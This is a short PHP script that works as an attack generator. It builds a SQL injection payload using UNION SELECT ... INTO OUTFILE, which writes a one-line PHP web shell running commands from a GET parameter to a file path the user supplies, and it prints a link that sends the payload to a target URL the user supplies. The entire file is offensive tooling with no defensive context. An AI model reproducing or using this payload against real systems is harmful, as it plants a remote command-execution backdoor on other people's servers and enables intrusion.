<?php
$q = "1 UNION SELECT '<?php system(\$_GET[c]); ?>' INTO OUTFILE '" . $_POST['path'] . "'";
echo '<a href="' . $_POST['target'] . '?id=' . urlencode($q) . '">go</a>';
